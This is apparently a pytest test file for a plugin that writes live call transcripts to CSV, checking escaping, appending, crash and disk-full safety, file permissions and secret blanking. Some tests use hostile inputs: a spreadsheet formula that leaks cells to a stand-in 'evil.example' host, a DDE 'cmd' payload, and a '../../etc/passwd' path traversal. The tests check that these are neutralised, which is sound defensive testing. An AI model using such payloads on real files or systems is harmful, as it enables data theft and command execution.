"""livecall-csv: rows read back with the csv module, from real watches of the simulator."""

import argparse
import csv
import json
import os
import resource
import signal
import subprocess
import sys

import pytest

import livecall
import livecall_csv
from livecall.plugins import DISABLE_AUTOLOAD_ENV
from livecall.testing import Exploding, Simulator, configure, wait_until
from livecall_csv import COLUMNS, CsvWriter


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def cell(value):
    """How a value of the JSON-lines record reads back from the CSV."""
    if isinstance(value, bool):
        return "true" if value else "false"
    return "" if value is None else str(value)


def expected_row(call, transcript):
    record = livecall.to_record(call, transcript)
    return [cell(record[column]) for column in COLUMNS]


def watch(sim, *plugins):
    """Run a whole watch of ``sim`` with ``plugins``; returns the call and its transcripts."""
    cls = livecall.HiyaClient if sim.provider == "hiya" else livecall.PhonicClient
    client = cls(**sim.client_kwargs(), plugins=plugins)
    transcripts = []
    client.on(livecall.Transcript, lambda call, event: transcripts.append(event))
    client.run()
    return client.call, transcripts


@pytest.mark.parametrize("provider", ["hiya", "phonic"])
def test_every_transcript_becomes_a_row(tmp_path, provider):
    path = tmp_path / "calls.csv"
    with Simulator(provider, join_timeout=0.1) as sim:
        with CsvWriter(str(path)) as writer:
            call, transcripts = watch(sim, writer)
    rows = read_rows(path)
    assert rows[0] == list(COLUMNS)
    assert transcripts and rows[1:] == [expected_row(call, t) for t in transcripts]


def test_commas_quotes_and_newlines_survive(tmp_path):
    path = tmp_path / "tricky.csv"
    call = livecall.Call(provider="hiya", id="call_1")
    texts = ['Yes, "ten" works', "line one\nline two", 'a "quoted", multi\r\nline, text', "naïve café ☎"]
    with CsvWriter(str(path)) as writer:
        for index, text in enumerate(texts):
            writer.livecall_transcript(
                call=call, transcript=livecall.Transcript(text, "user", offset=float(index))
            )
    rows = read_rows(path)
    assert [row[COLUMNS.index("text")] for row in rows[1:]] == texts
    assert [row[COLUMNS.index("offset")] for row in rows[1:]] == ["0.0", "1.0", "2.0", "3.0"]


def test_rows_are_on_disk_before_close(tmp_path):
    path = tmp_path / "live.csv"
    call = livecall.Call(provider="phonic", id="conv_1")
    writer = CsvWriter(str(path))
    try:
        for index in range(3):
            writer.livecall_transcript(
                call=call, transcript=livecall.Transcript(f"turn {index}", "user", item_idx=index)
            )
            rows = read_rows(path)
            assert len(rows) == index + 2, "each row is readable the moment it is written"
            assert rows[-1][COLUMNS.index("item_idx")] == str(index)
    finally:
        writer.close()


def test_appending_writes_no_second_header(tmp_path, phonic_simulator):
    path = tmp_path / "calls.csv"
    call = livecall.Call(provider="hiya", id="call_earlier")
    with CsvWriter(str(path)) as writer:
        writer.livecall_transcript(call=call, transcript=livecall.Transcript("earlier", "user"))
    with CsvWriter(str(path)) as writer:
        call, transcripts = watch(phonic_simulator, writer)
    rows = read_rows(path)
    assert rows.count(list(COLUMNS)) == 1 and rows[0] == list(COLUMNS)
    assert rows[1][COLUMNS.index("text")] == "earlier"
    assert rows[2:] == [expected_row(call, t) for t in transcripts]


def test_call_id_placeholder_gives_one_file_per_call(tmp_path):
    template = tmp_path / "call-{call_id}.csv"
    with CsvWriter(str(template)) as writer:
        with Simulator("hiya", join_timeout=0.1) as hiya:
            hiya_call, hiya_transcripts = watch(hiya, writer)
        with Simulator("phonic") as phonic:
            phonic_call, phonic_transcripts = watch(phonic, writer)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [f"call-{hiya_call.id}.csv", f"call-{phonic_call.id}.csv"]
    )
    for call, transcripts in [(hiya_call, hiya_transcripts), (phonic_call, phonic_transcripts)]:
        rows = read_rows(writer.path_for(call))
        assert rows == [list(COLUMNS)] + [expected_row(call, t) for t in transcripts]


def test_call_ids_cannot_escape_the_directory(tmp_path):
    writer = CsvWriter(str(tmp_path / "{call_id}.csv"))
    call = livecall.Call(provider="phonic", id="../../etc/passwd")
    assert writer.path_for(call) == str(tmp_path / "_.._etc_passwd.csv")


def test_a_file_with_other_columns_is_refused_untouched(tmp_path):
    path = tmp_path / "other.csv"
    path.write_text("name,amount\nalice,3\n")
    with pytest.raises(livecall.ConfigurationError, match="other columns"):
        CsvWriter(str(path))
    assert path.read_text() == "name,amount\nalice,3\n"


def test_a_file_from_before_the_revision_columns_is_refused_untouched(tmp_path):
    path = tmp_path / "calls.csv"
    earlier = (
        "received_at,provider,call_id,role,text,offset,item_idx\r\n"
        "2025-01-01T00:00:00+00:00,hiya,call_0,user,hi,1.0,\r\n"
    )
    path.write_bytes(earlier.encode())
    with pytest.raises(livecall.ConfigurationError) as refused:
        CsvWriter(str(path))
    assert str(path) in str(refused.value) and "item_id, revised, redacted" in str(refused.value)
    assert "\n" not in str(refused.value), "one line"
    assert path.read_bytes() == earlier.encode()


def test_a_missing_directory_is_a_clear_error(tmp_path):
    with pytest.raises(livecall.ConfigurationError, match="does not exist"):
        CsvWriter(str(tmp_path / "nowhere" / "calls.csv"))


def test_the_command_line_option_sets_it_up_and_unconfigure_closes(tmp_path, phonic_simulator):
    path = tmp_path / "cli.csv"
    config = configure(livecall_csv, "--csv", str(path))
    client = livecall.PhonicClient(**phonic_simulator.client_kwargs(), plugin_manager=config.plugin_manager)
    client.run()
    config.close()
    rows = read_rows(path)
    assert rows[0] == list(COLUMNS) and len(rows) > 1
    assert all(row[COLUMNS.index("call_id")] == client.call.id for row in rows[1:])
    assert [p.name for p in tmp_path.iterdir()] == ["cli.csv"]
    assert config.failures == []


def test_without_the_option_it_does_nothing(tmp_path, monkeypatch, phonic_simulator):
    monkeypatch.chdir(tmp_path)
    config = configure(livecall_csv)
    pm = config.plugin_manager
    assert pm.hook.livecall_transcript.get_hookimpls() == []
    livecall.PhonicClient(**phonic_simulator.client_kwargs(), plugin_manager=pm).run()
    config.close()
    assert list(tmp_path.iterdir()) == []


def test_a_raising_plugin_does_not_cost_the_writer_a_row(tmp_path):
    path = tmp_path / "calls.csv"
    errors = []

    class ErrorLog:
        @livecall.hookimpl
        def livecall_error(self, call, error):
            errors.append(error)

    with Simulator("hiya", join_timeout=0.1) as sim, CsvWriter(str(path)) as writer:
        call, transcripts = watch(sim, Exploding(), writer, ErrorLog())
    assert errors and all(isinstance(e, livecall.PluginError) for e in errors)
    assert read_rows(path)[1:] == [expected_row(call, t) for t in transcripts]


def watch_command(sim, *options):
    """``livecall watch`` of ``sim``, as a user runs it: ``--format jsonl``, then ``options``."""
    return [sys.executable, "-m", "livecall", *sim.watch_args("--format", "jsonl", *options)]


def user_env():
    """The environment without the switch that keeps installed plugins (this one) from loading."""
    return {k: v for k, v in os.environ.items() if k != DISABLE_AUTOLOAD_ENV}


def run_watch(sim, *options, cwd):
    """``livecall watch`` of ``sim`` with ``options``, run to its end."""
    return subprocess.run(
        watch_command(sim, *options), cwd=cwd, env=user_env(), capture_output=True, text=True, timeout=60
    )


def test_livecall_watch_without_csv_writes_none(tmp_path, phonic_simulator):
    done = run_watch(phonic_simulator, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert list(tmp_path.iterdir()) == []


def test_livecall_watch_writes_the_csv(tmp_path, phonic_simulator):
    credentials = phonic_simulator.client_kwargs()
    done = run_watch(phonic_simulator, "--csv", str(tmp_path / "{call_id}.csv"), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    records = [json.loads(line) for line in done.stdout.splitlines()]
    transcripts = [r for r in records if r["event"] == "transcript"]
    rows = read_rows(tmp_path / f"{credentials['conversation_id']}.csv")
    assert transcripts and rows[0] == list(COLUMNS)
    assert rows[1:] == [[cell(r[c]) for c in COLUMNS] for r in transcripts]


def test_livecall_watch_refuses_a_file_without_the_revision_columns_in_one_line(tmp_path, phonic_simulator):
    path = tmp_path / "calls.csv"
    path.write_text("received_at,provider,call_id,role,text,offset,item_idx\n")
    done = run_watch(phonic_simulator, "--csv", str(path), cwd=tmp_path)
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.startswith("livecall: error: ") and done.stderr.count("\n") == 1, done.stderr
    assert "earlier livecall-csv" in done.stderr and str(path) in done.stderr
    assert path.read_text() == "received_at,provider,call_id,role,text,offset,item_idx\n"


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="SIGKILL is POSIX")
def test_sigkill_mid_call_leaves_whole_rows_and_the_next_run_appends(tmp_path):
    """No handler runs on SIGKILL: each row must be written whole and flushed on its own."""
    path = tmp_path / "calls.csv"
    with Simulator("hiya", "flood", flood_count=100_000) as sim:
        child = subprocess.Popen(
            watch_command(sim, "--csv", str(path)), env=user_env(), stdout=subprocess.DEVNULL
        )
        try:  # files notify nobody: polled
            rows = lambda: path.exists() and path.read_bytes().count(b"\n")  # noqa: E731
            wait_until(lambda: child.poll() is not None or rows() > 500)
            assert child.poll() is None, "the watch ended before writing 500 rows"
        finally:
            child.kill()
            child.wait(10)
        assert not sim.call_ended, "killed mid-call"
    header, *rows = read_rows(path)
    said = [row[COLUMNS.index("text")] for row in rows]
    assert header == list(COLUMNS) and all(len(row) == len(COLUMNS) for row in rows), "whole rows only"
    assert path.read_bytes().endswith(b"\r\n")
    assert said == [f"flood message {n}" for n in range(1, len(said) + 1)], "in order, none missing"

    with Simulator("hiya", "flood", flood_count=10) as sim, CsvWriter(str(path)) as writer:
        watch(sim, writer)
    texts = [row[COLUMNS.index("text")] for row in read_rows(path)[1:]]
    assert texts == said + [f"flood message {n}" for n in range(1, 11)], "appended, no second header"


def disk_full_past(size):
    """In the child: files cannot grow past ``size`` bytes, as on a full disk (EFBIG, the signal ignored)."""

    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (size, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)

    return limit


def test_a_disk_filling_mid_row_leaves_whole_rows_and_ends_the_run_with_status_5(tmp_path, phonic_simulator):
    path = tmp_path / "calls.csv"
    header = (",".join(COLUMNS) + "\r\n").encode()
    room = len(header) + 150  # the disk fills in the first rows, one of them cut mid-row
    done = subprocess.run(
        watch_command(phonic_simulator, "--csv", str(path)),
        env=user_env(), capture_output=True, text=True, timeout=60, preexec_fn=disk_full_past(room),
    )  # fmt: skip
    transcripts = [r for r in map(json.loads, done.stdout.splitlines()) if r["event"] == "transcript"]
    written = path.read_bytes()
    header_row, *rows = read_rows(path)
    assert written.endswith(b"\r\n") and len(written) <= room
    assert header_row == list(COLUMNS) and all(len(row) == len(COLUMNS) for row in rows), "whole rows only"
    expected = iter([cell(r[c]) for c in COLUMNS] for r in transcripts)
    assert all(row in expected for row in rows), "rows that fitted, in order (later rows are tried)"
    unwritten = len(transcripts) - len(rows)
    assert unwritten > 0 and done.returncode == livecall.ExitStatus.INCOMPLETE, done.stderr
    assert f"livecall: error: csv: {unwritten} rows could not be written to {path}" in done.stderr
    assert "Traceback" not in done.stderr


def _write(path, texts, **options):
    call = livecall.Call(provider="hiya", id="call_1")
    with CsvWriter(str(path), **options) as writer:
        for text in texts:
            writer.livecall_transcript(call=call, transcript=livecall.Transcript(text, "other"))
    return [row[COLUMNS.index("text")] for row in read_rows(path)[1:]]


FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


def test_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    """OWASP's advice for CSV injection: a leading ' makes the cell text."""
    texts = _write(tmp_path / "calls.csv", [*FORMULAS, "plain words", "a = b"])
    assert texts == ["'" + text for text in FORMULAS] + ["plain words", "a = b"]


def test_keep_formulas_writes_the_exact_words_for_programs(tmp_path):
    assert _write(tmp_path / "calls.csv", FORMULAS, keep_formulas=True) == FORMULAS


def test_the_command_line_option_keeps_formulas():
    parser = argparse.ArgumentParser()
    livecall_csv.livecall_addoption(parser)
    assert parser.parse_args(["--csv-keep-formulas"]).csv_keep_formulas
    assert not parser.parse_args([]).csv_keep_formulas


@pytest.mark.parametrize(
    "torn",
    [
        b'2025-01-01T00:00:00+00:00,hiya,call_0,other,"cut off, mid quo',
        b"2025-01-01T00:00:00+00:00,hiya,call_0,oth",
        '2025-01-01T00:00:00+00:00,hiya,call_0,other,"caf\u00e9 and a\r\nline'.encode()[:-6],
    ],
    ids=["inside quotes", "mid field", "mid character, after a line break inside quotes"],
)
def test_a_torn_last_row_is_removed_before_appending(tmp_path, torn):
    """A crash or a full disk cut the last row; left there, it would swallow the rows appended next."""
    path = tmp_path / "calls.csv"
    before = _write(path, ["one", 'two, "quoted"\r\nover two lines'])
    with open(path, "ab") as f:
        f.write(torn)
    after = _write(path, ["three", "four"])
    assert after == before + ["three", "four"]
    assert all(len(row) == len(COLUMNS) for row in read_rows(path))


def test_a_new_file_is_private_and_an_existing_one_keeps_its_mode(tmp_path):
    """The rows are transcripts, personal data."""
    new, kept = tmp_path / "new.csv", tmp_path / "kept.csv"
    kept.write_text("")
    kept.chmod(0o644)
    _write(new, ["hello"])
    _write(kept, ["hello"])
    assert new.stat().st_mode & 0o777 == 0o600
    assert kept.stat().st_mode & 0o777 == 0o644


def test_a_directory_is_a_clear_error(tmp_path):
    with pytest.raises(livecall.ConfigurationError, match="it is a directory"):
        CsvWriter(str(tmp_path))


def test_secrets_are_blanked_in_cells(tmp_path):
    livecall.Credential("csv-SECRET-token-0042")
    assert _write(tmp_path / "calls.csv", ["it is csv-SECRET-token-0042"]) == ["it is ***"]


def test_revisions_redactions_and_late_ids_have_their_columns(tmp_path):
    """The ``sdk`` call: an id that comes late, a turn redacted after it was said,
    one redacted from the start."""
    path = tmp_path / "calls.csv"
    with Simulator("phonic", "sdk") as sim, CsvWriter(str(path)) as writer:
        call, transcripts = watch(sim, writer)
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [list(row.values()) for row in rows] == [expected_row(call, t) for t in transcripts]
    flags = [(row["item_idx"], row["revised"], row["redacted"], row["text"]) for row in rows]
    assert ("1", "false", "false", "Could we move it? You can text me at 555 0100.") in flags
    assert ("1", "true", "true", "Could we move it? You can text me at [PHONE NUMBER].") in flags
    assert ("3", "false", "true", "Thanks, I'm [NAME].") in flags
    assert {row["revised"] for row in rows} | {row["redacted"] for row in rows} == {"true", "false"}
    scrub = {row["item_idx"] for row in rows if row["revised"] == "true" and row["redacted"] == "true"}
    assert scrub == {"1"}, "the one turn whose earlier row a reader must scrub"
    greeting = [row["item_id"] for row in rows if row["item_idx"] == "0"]
    assert greeting == [""], "said before its id came; the id alone changes no words, so no new row"
    assert all(row["item_id"] for row in rows if row["item_idx"] != "0"), "the other turns had ids at once"


def test_a_hiya_row_is_neither_revised_nor_redacted(tmp_path):
    path = tmp_path / "calls.csv"
    with Simulator("hiya", join_timeout=0.1) as sim, CsvWriter(str(path)) as writer:
        watch(sim, writer)
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    flags = {(row["item_id"], row["revised"], row["redacted"]) for row in rows}
    assert rows and flags == {("", "false", "false")}


def test_an_item_id_a_spreadsheet_would_run_is_neutralised(tmp_path):
    """The id is the server's, untrusted like the words."""
    path = tmp_path / "calls.csv"
    call = livecall.Call(provider="phonic", id="conv_1")
    line = livecall.Transcript("hi", "user", item_idx=0, item_id="=cmd|' /C calc'!A0", revised=True)
    with CsvWriter(str(path)) as writer:
        writer.livecall_transcript(call=call, transcript=line)
    (row,) = read_rows(path)[1:]
    assert row[COLUMNS.index("item_id")] == "'=cmd|' /C calc'!A0"
    assert row[COLUMNS.index("revised")] == "true" and row[COLUMNS.index("redacted")] == "false"


ZERO_RETENTION = {"zero_data_retention": True}
SOME_RETENTION = {
    "zero_data_retention": False,
    "transcripts": {"delete_after_hours": 24},
    "audio_recordings": {"delete_after_hours": 24},
}


@pytest.mark.parametrize(
    "policy, options, words_kept",
    [
        (ZERO_RETENTION, (), False),
        (SOME_RETENTION, (), True),
        (ZERO_RETENTION, ("--csv-keep-words",), True),
    ],
    ids=["zero-retention", "retention", "zero-retention-kept-anyway"],
)
def test_a_zero_retention_call_keeps_its_rows_without_words(tmp_path, policy, options, words_kept):
    path = tmp_path / "calls.csv"
    config = configure(livecall_csv, "--csv", str(path), *options)
    with Simulator("phonic", "sdk", data_retention_policy=policy) as sim:
        client = livecall.PhonicClient(**sim.client_kwargs(), plugin_manager=config.plugin_manager)
        transcripts = []
        client.on(livecall.Transcript, lambda call, event: transcripts.append(event))
        client.run()
    config.close()
    rows = read_rows(path)[1:]
    text = COLUMNS.index("text")
    assert len(rows) == len(transcripts) == 5
    assert [row[text] for row in rows] == ([t.text for t in transcripts] if words_kept else [""] * 5)
    assert [row[COLUMNS.index("item_idx")] for row in rows] == [str(t.item_idx) for t in transcripts]
    assert [row[COLUMNS.index("role")] for row in rows] == [str(t.role) for t in transcripts]
